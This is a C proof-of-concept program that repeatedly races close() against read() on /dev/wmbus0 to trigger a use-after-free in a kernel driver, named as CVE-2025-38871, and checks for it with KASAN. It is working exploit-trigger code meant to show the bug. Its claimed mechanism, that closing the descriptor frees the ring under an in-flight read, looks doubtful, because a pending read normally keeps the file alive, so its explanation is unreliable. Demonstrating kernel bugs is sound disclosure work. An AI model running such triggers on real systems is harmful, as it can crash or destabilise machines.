/*
 * Proof of concept for a race in the "wmbus" character driver (CVE-2025-38871): the release handler frees the
 * receive ring while a concurrent read() still copies from it. This program only demonstrates the
 * use-after-free with KASAN: run it on a kernel built with CONFIG_KASAN=y and watch dmesg.
 *
 * Build: gcc -O2 -pthread -o wmbus-race wmbus-race.c
 * Usage: ./wmbus-race [ITERATIONS]
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define WMBUS_IOC_RING_SIZE 0x4004b701
#define RING_BYTES 4096

static int fd = -1;
static volatile int go;

static void *reader(void *arg)
{
	char buf[RING_BYTES];

	(void)arg;
	while (!go)
		;
	/* read() takes the ring pointer once and sleeps in copy_to_user on a faulting page. */
	if (read(fd, buf, sizeof(buf)) < 0 && errno != EBADF)
		perror("read");
	return NULL;
}

int main(int argc, char **argv)
{
	long iterations = argc > 1 ? strtol(argv[1], NULL, 10) : 10000;
	unsigned int size = RING_BYTES;

	for (long i = 0; i < iterations; i++) {
		pthread_t t;

		fd = open("/dev/wmbus0", O_RDWR);
		if (fd < 0) {
			perror("open /dev/wmbus0");
			return 1;
		}
		if (ioctl(fd, WMBUS_IOC_RING_SIZE, &size) < 0) {
			perror("ioctl");
			return 1;
		}
		go = 0;
		pthread_create(&t, NULL, reader, NULL);
		go = 1;
		usleep(50);
		close(fd); /* the release handler frees the ring under the reader */
		pthread_join(t, NULL);
		if (i % 1000 == 0)
			printf("[*] %ld iterations, check dmesg for a KASAN report\n", i);
	}
	printf("[+] done; a vulnerable kernel reports use-after-free in wmbus_read\n");
	return 0;
}
